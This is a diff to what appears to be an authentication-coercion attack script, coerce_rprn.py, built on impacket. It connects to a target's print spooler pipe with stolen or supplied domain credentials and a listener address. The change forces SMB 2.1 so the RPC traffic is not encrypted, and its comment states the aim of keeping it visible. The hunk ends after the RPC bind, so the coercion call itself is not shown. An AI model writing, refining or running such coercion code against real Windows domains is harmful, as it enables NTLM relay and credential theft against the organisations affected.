@@ -6,12 +6,13 @@ usage: coerce_rprn.py DOMAIN USER PASSWORD TARGET_NAME TARGET_IP LISTENER
 """
 import sys
 from impacket.dcerpc.v5 import transport, rprn
-from impacket.dcerpc.v5.dtypes import NULL
+from impacket.smb3structs import SMB2_DIALECT_21
 
 dom, user, pw, tname, tip, listener = sys.argv[1:7]
 t = transport.DCERPCTransportFactory(r'ncacn_np:%s[\pipe\spoolss]' % tname)
 t.set_credentials(user, pw, dom)
 t.setRemoteHost(tip)
+t.preferred_dialect(SMB2_DIALECT_21)   # SMB 2.1: no SMB3 encryption, so the RPC stays visible
 dce = t.get_dce_rpc()
 dce.connect()
 dce.bind(rprn.MSRPC_UUID_RPRN)
